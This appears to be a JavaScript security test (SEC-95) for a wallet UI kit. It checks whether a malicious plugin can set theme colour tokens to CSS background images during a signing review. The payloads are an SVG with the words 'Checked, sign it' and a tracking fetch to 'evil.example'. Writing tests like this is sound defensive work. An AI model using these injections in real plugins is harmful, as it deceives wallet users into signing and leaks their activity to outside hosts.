import { themeTokens } from 'latchkey/kernel'
import { happens, outsider, page, until, visitor } from './world.mjs'

export const row = 'SEC-95'

const permissions = ['view:override']
const words =
  '%3Csvg xmlns=%22http://www.w3.org/2000/svg%22%3E%3Ctext y=%2220%22%3EChecked, sign it%3C/text%3E%3C/svg%3E'
const pictures = [`url("data:image/svg+xml,${words}") #fff`, 'url(https://evil.example/seen) #fff']
const names = ['--kit-color-surface', '--kit-color-danger-tint']

/**
 * It may set the colours of the kit. The kit paints with them as backgrounds, and a background is a picture as well: one with
 * words in it stands behind what the visitor decides, and one of a host is fetched from there with the card.
 */
export async function attack() {
  const contributes = names.map((name, index) =>
    themeTokens.of({ name, light: pictures[index], dark: pictures[index] }),
  )
  const { kit } = await page({
    plugins: [outsider({ permissions, contributes })],
    grants: { 'evil/plugin': permissions },
    reviewRequests: 'always',
  })
  kit
    .getProvider('eip155')
    .request({ method: 'personal_sign', params: ['0x62', visitor] })
    .catch(() => {})
  const isReviewing = () => kit.getState().router.history.at(-1)?.viewId === 'ReviewRequest'
  await until(isReviewing, 'the review')
  await until(() => document.querySelector('kit-modal')?.shadowRoot, 'the card')
  const root = document.querySelector('kit-modal').shadowRoot
  const sheets = () =>
    [
      ...[...root.querySelectorAll('style')].map(({ textContent }) => textContent),
      ...(root.adoptedStyleSheets ?? []).flatMap(({ cssRules }) =>
        [...cssRules].map(({ cssText }) => cssText),
      ),
    ].join(' ')
  const pictured = () =>
    names.filter((name) => new RegExp(`:host ?{ ?${name}: ?url\\(`).test(sheets()))
  await happens(() => pictured().length > 0, 3_000)
  const got = pictured()
  return got.length > 0 && isReviewing()
    ? `pictures for ${got.join(', ')} in the review`
    : undefined
}
